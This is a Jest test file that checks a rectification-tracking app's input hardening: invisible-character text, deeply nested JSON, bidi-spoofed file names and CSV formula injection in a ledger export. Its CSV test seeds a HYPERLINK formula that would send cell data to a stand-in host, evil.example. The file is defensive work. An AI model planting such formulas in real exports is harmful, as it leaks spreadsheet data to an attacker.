import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parseCsv } from '../src/modules/plans/import/csv.js';
import { seedItems } from './support/items.js';
import { seedOrg, type Org } from './support/org.js';
import { startTestApp, type TestApp } from './support/test-app.js';

/**
 * Hostile input at the edges (issue 10): text that shows nothing, JSON nested thousands deep,
 * file names that hide their extension behind bidi controls, and ledger cells that a spreadsheet
 * would run as formulas.
 */

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
/** Text that shows nothing: zero-width, format and bidi characters, BOM, full-width and no-break spaces. */
const INVISIBLE = ['\u200b', '\u200b\u200c\u200d', '\u2060\ufeff', '\u3000\u3000', '\u202e\u2066\u2069', '\u00a0\u00ad \t'];

describe('input hardening', () => {
  let t: TestApp;
  let org: Org;
  let itemId: string;
  let submittedId: string;
  let inspectionId: string;

  beforeAll(async () => {
    t = await startTestApp({ now: '2026-06-15T02:00:00Z' });
    org = await seedOrg(t);
    [itemId, submittedId] = await seedItems(t.dataSource, [
      { title: '公车管理', unitId: org.units.a, deadline: '2026-07-31', status: 'in_progress', ownerId: org.users.staffA.id },
      { title: '比价采购', unitId: org.units.a, deadline: '2026-07-31', status: 'submitted' },
    ]);
    [{ id: inspectionId }] = await t.dataSource.query(`SELECT id FROM inspections LIMIT 1`);
  });
  afterAll(async () => {
    await t?.close();
  });

  const count = async (table: string): Promise<number> =>
    (await t.dataSource.query(`SELECT count(*)::int AS n FROM ${table}`))[0].n as number;

  describe('a required text of only invisible characters is empty', () => {
    const refused = (res: { status: number; body: { code?: string; message?: string } }, field: string) => {
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.message).toContain(field);
    };

    it.each(INVISIBLE.map((s) => [JSON.stringify(s), s]))(
      '%s as a progress note, an extension reason and a reject reason',
      async (_n, blank) => {
        const staff = t.as(org.users.staffA.token);
        const before = [await count('item_progress_updates'), await count('item_extensions'), await count('audit_entries')];
        refused(await staff.post(`/api/v1/items/${itemId}/progress`).send({ note: blank }), 'note');
        refused(await staff.post(`/api/v1/items/${itemId}/extensions`).send({ newDeadline: '2026-09-30', reason: blank }), 'reason');
        const reject = await t
          .as(org.users.office.token)
          .post(`/api/v1/items/${submittedId}/transitions`)
          .send({ action: 'reject', reason: blank });
        expect(reject.status).toBe(400);
        expect(reject.body.message).toContain('理由');
        expect([await count('item_progress_updates'), await count('item_extensions'), await count('audit_entries')]).toEqual(before);
        const [{ status }] = await t.dataSource.query(`SELECT status FROM rectification_items WHERE id = $1`, [submittedId]);
        expect(status).toBe('submitted');
      },
    );

    it.each(INVISIBLE.map((s) => [JSON.stringify(s), s]))('%s as a title, a description or a name', async (_n, blank) => {
      const office = t.as(org.users.office.token);
      const [{ id: findingId }] = await t.dataSource.query(`SELECT id FROM findings LIMIT 1`);
      refused(
        await office
          .post('/api/v1/items')
          .send({ findingId, title: blank, responsibleUnitId: org.units.a, deadline: '2026-09-30', rectificationType: 'time_limited' }),
        'title',
      );
      refused(
        await office
          .post('/api/v1/findings')
          .send({ inspectionId, unitId: org.units.a, category: '作风建设', description: blank, measureIds: [] }),
        'description',
      );
      refused(
        await office
          .post('/api/v1/inspections')
          .send({ kind: 'internal_round', title: blank, startDate: '2026-01-01', endDate: '2026-02-01' }),
        'title',
      );
      refused(await t.as(org.adminToken).post('/api/v1/units').send({ code: 'Z9', name: blank }), 'name');
    });

    it('visible text keeps its content, without the invisible characters around it', async () => {
      const res = await t
        .as(org.users.staffA.token)
        .post(`/api/v1/items/${itemId}/progress`)
        .send({ note: '\u200b\u3000已完成车辆清查\u200d\u202e ' });
      expect(res.status).toBe(201);
      expect(res.body.note).toBe('已完成车辆清查');
    });
  });

  describe('deeply nested JSON', () => {
    const nestedArray = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
    const nestedObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

    it.each([
      ['a 5000-level array', nestedArray(5000)],
      ['a 5000-level object', nestedObject(5000)],
      ['a note holding a 100-level array', `{"note":${nestedArray(100)}}`],
    ])('%s is a 400 naming the depth limit, not a 500', async (_name, body) => {
      for (const res of [
        await t.http().post('/api/v1/auth/login').set('Content-Type', 'application/json').send(body),
        await t.as(org.users.staffA.token).post(`/api/v1/items/${itemId}/progress`).set('Content-Type', 'application/json').send(body),
      ]) {
        expect(res.status).toBe(400);
        expect(res.body.code).toBe('VALIDATION_FAILED');
        expect(res.body.message).toMatch(/嵌套.*32/);
      }
    });

    it('a body over the size limit is 413', async () => {
      const res = await t
        .as(org.users.staffA.token)
        .post(`/api/v1/items/${itemId}/progress`)
        .send({ note: 'x'.repeat(200 * 1024) });
      expect(res.status).toBe(413);
      expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
    });
  });

  describe('evidence file names', () => {
    it.each([
      ['a right-to-left override', '整改报告\u202egpj.pdf', '整改报告gpj.pdf'],
      ['isolates and embeddings', '\u2067说明\u2069\u202b材料\u202c.pdf', '说明材料.pdf'],
      ['zero-width and BOM characters', 'a\u200bb\ufeffc\u2060.pdf', 'abc.pdf'],
    ])('%s are stripped from the stored and downloaded name', async (_name, uploaded, shown) => {
      const staff = t.as(org.users.staffA.token);
      const res = await staff
        .post(`/api/v1/items/${itemId}/evidence`)
        .attach('file', PDF, { filename: uploaded, contentType: 'application/pdf' });
      expect(res.status).toBe(201);
      expect(res.body.originalName).toBe(shown);
      const [{ original_name }] = await t.dataSource.query(`SELECT original_name FROM item_evidence WHERE id = $1`, [res.body.id]);
      expect(original_name).toBe(shown);
      const list = await staff.get(`/api/v1/items/${itemId}/evidence`);
      expect(list.body.map((e: { originalName: string }) => e.originalName)).toContain(shown);
      const download = await staff.get(`/api/v1/evidence/${res.body.id}/download`);
      expect(download.status).toBe(200);
      expect(download.headers['content-disposition']).toContain(encodeURIComponent(shown));
      expect(decodeURIComponent(download.headers['content-disposition'])).not.toMatch(/\p{Cf}/u);
    });
  });

  describe('CSV ledger cells a spreadsheet would run', () => {
    const LEADING = ['=', '+', '-', '@', '\t', '\r'];

    /** Unit B's ledger as CSV, parsed into rows (header first). */
    const ledgerCsvOfB = async (): Promise<string[][]> => {
      const res = await t
        .as(org.users.office.token)
        .get(`/api/v1/reports/ledger.xlsx?format=csv&unitId=${org.units.b}`)
        .buffer(true)
        .parse((r, cb) => {
          const chunks: Buffer[] = [];
          r.on('data', (c: Buffer) => chunks.push(c));
          r.on('end', () => cb(null, Buffer.concat(chunks).toString('utf8')));
        });
      expect(res.status).toBe(200);
      return parseCsv((res.body as string).replace(/^\uFEFF/, ''));
    };

    it.each(LEADING.map((c) => [JSON.stringify(c), c]))(
      'a cell starting with %s is written with a leading apostrophe',
      async (_n, lead) => {
        const title = `${lead}HYPERLINK("http://evil.example/?x="&A1)`;
        const [id] = await seedItems(t.dataSource, [{ title, unitId: org.units.b, deadline: '2026-08-31' }]);
        const rows = await ledgerCsvOfB();
        const header = rows[0];
        const row = rows.find((r) => r[header.indexOf('事项编号')] === id)!;
        expect(row[header.indexOf('整改事项')]).toBe(`'${title}`);
        // Every cell of the file, not only this one: nothing starts a formula.
        for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        await t.dataSource.query(`DELETE FROM rectification_items WHERE id = $1`, [id]);
      },
    );

    it('plain text and text already starting with an apostrophe before a formula character are told apart', async () => {
      const titles = ['普通事项', "'=1+1", '1-1 问题', '负责人：张三'];
      const ids = await seedItems(
        t.dataSource,
        titles.map((title) => ({ title, unitId: org.units.b, deadline: '2026-08-31' })),
      );
      const rows = await ledgerCsvOfB();
      const header = rows[0];
      const titleOf = (id: string) => rows.find((r) => r[header.indexOf('事项编号')] === id)![header.indexOf('整改事项')];
      expect(ids.map(titleOf)).toEqual(['普通事项', "''=1+1", '1-1 问题', '负责人：张三']);
    });
  });
});
